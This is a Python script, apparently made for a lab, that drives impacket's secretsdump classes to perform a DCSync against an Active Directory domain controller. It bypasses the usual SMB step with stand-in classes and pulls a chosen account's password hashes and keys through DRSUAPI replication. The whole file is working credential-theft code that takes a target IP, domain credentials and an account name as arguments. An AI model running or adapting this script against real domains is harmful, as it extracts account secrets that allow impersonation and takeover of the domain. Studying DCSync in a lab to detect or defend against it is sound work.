# impacket's DCSync (secretsdump.py -just-dc-user) against a DC: the
# RemoteOperations and NTDSHashes classes secretsdump runs, with DRSBind,
# DRSDomainControllerInfo, DRSCrackNames and DRSGetNCChanges (EXOP_REPL_OBJ).
# secretsdump opens an SMB session first only to learn the DC's name and the
# credentials; the lab has no SMB, so a stand-in object answers those three
# questions and the DRSUAPI path is impacket's own.
# usage: impacket_dcsync.py DC_IP DC_NAME DOMAIN USER PASSWORD ACCOUNT [-k]
import logging, sys
from impacket.examples import logger
from impacket.examples.secretsdump import RemoteOperations, NTDSHashes

ip, name, domain, user, password, account = sys.argv[1:7]
kerberos = '-k' in sys.argv[7:]
logger.init()
logging.getLogger().setLevel(logging.INFO)


class NoSMB:
    def setTimeout(self, seconds):
        pass

    def getRemoteHost(self):
        return ip

    def getRemoteName(self):
        return name

    def getCredentials(self):
        # user, password, domain, lmhash, nthash, aesKey, TGT, TGS
        return user, password, domain, '', '', '', None, None


class DRSOnly(RemoteOperations):
    # NTDSHashes first asks SAMR (over SMB's \\samr pipe) whether the target
    # is a DC; the lab has no SMB, and DRSUAPI answers that question anyway.
    def connectSamr(self, domain):
        pass

    def getMachineNameAndDomain(self):
        return name.split('.')[0], domain


ops = DRSOnly(NoSMB(), kerberos, ip)
dump = NTDSHashes(None, None, isRemote=True, remoteOps=ops, noLMHash=True, useVSSMethod=False,
                  justNTLM=False, pwdLastSet=False, resumeSession=None, outputFileName=None,
                  justUser=account, printUserStatus=False)
try:
    dump.dump()
finally:
    dump.finish()
